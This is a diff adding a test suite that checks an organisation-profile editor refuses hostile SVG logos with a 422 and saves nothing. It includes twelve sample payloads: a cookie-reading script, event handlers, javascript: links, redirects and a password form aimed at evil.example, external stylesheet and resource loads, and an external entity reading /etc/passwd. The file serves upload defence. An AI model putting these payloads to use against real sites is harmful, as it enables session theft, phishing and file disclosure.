@@ -472,6 +472,47 @@ describe('multipart forms', () => {
   });
 });
 
+// --- hostile SVG logos ------------------------------------------------------------------
+// An SVG logo is a document served from our origin: each of these would
+// run, navigate or fetch there. They go to an existing entry's edit form
+// (the logo is checked before anything is saved), so each must be a 422
+// naming what was refused, with nothing changed.
+
+const SVG_NS = 'xmlns="http://www.w3.org/2000/svg"';
+const hostileSvgs = [
+  ['an XHTML meta refresh', `<svg ${SVG_NS}><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example/"/></svg>`, /<meta>/],
+  ['an XHTML form', `<svg ${SVG_NS} xmlns:h="http://www.w3.org/1999/xhtml"><h:form action="https://evil.example/login"><h:input name="password"/></h:form></svg>`, /<h:form>/],
+  ['a script', `<svg ${SVG_NS}><script>alert(document.cookie)</script></svg>`, /<script>/],
+  ['an event handler', `<svg ${SVG_NS} onload="alert(1)"><rect width="1" height="1"/></svg>`, /"onload"/],
+  ['a foreignObject', `<svg ${SVG_NS}><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject></svg>`, /<foreignObject>/],
+  ['a javascript: link', `<svg ${SVG_NS}><a href="javascript:alert(1)"><rect width="1" height="1"/></a></svg>`, /<a>/],
+  ['an external use', `<svg ${SVG_NS} xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="https://evil.example/x.svg#a"/></svg>`, /"xlink:href"/],
+  ['a set that rewrites href', `<svg ${SVG_NS}><set attributeName="href" to="https://evil.example/"/></svg>`, /<set>/],
+  ['a CSS import', `<svg ${SVG_NS}><style>@import url(https://evil.example/x.css);</style></svg>`, /<style>/],
+  ['an external url() in style', `<svg ${SVG_NS}><rect style="fill:url(https://evil.example/#g)" width="1" height="1"/></svg>`, /"style"/],
+  ['a DOCTYPE with an external entity', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg ${SVG_NS}><text>&x;</text></svg>`, /DOCTYPE/],
+  ['an xml-stylesheet instruction', `<?xml-stylesheet href="https://evil.example/x.css"?><svg ${SVG_NS}/>`, /xml-stylesheet/],
+];
+
+describe('hostile SVG logos', () => {
+  after(unchanged);
+  const update = (svg) => withBody('POST', '/orgs/nicat', `multipart/form-data; boundary=${B}`,
+    multipart([part('_csrf', session.csrf), part('slug', 'nicat'), part('name', 'Нишки кластер напредних технологија'),
+      part('kind', 'cluster'), part('status', 'published'),
+      `Content-Disposition: form-data; name="logo"; filename="logo.svg"\r\nContent-Type: image/svg+xml\r\n\r\n${svg}`]),
+    editor());
+
+  for (const [name, svg, msg] of hostileSvgs) {
+    test(`a logo with ${name} is 422 naming it, nothing saved`, async () => {
+      const res = await rawRequest(srv.port, update(svg), { timeout: 5000 });
+      refused(res, 422, null);
+      assert.match(res.body, /id="org-logo-error"/);
+      assert.match(text(res.body).replace(/&lt;/g, '<').replace(/&gt;/g, '>'), msg);
+      assert.equal((await fetch(`${srv.url}/orgs/nicat/logo`)).status, 404, 'no logo was stored');
+    });
+  }
+});
+
 describe('urlencoded forms', () => {
   after(unchanged);
   const ue = (path, body, extra = editor()) => withBody('POST', path, 'application/x-www-form-urlencoded', body, extra);
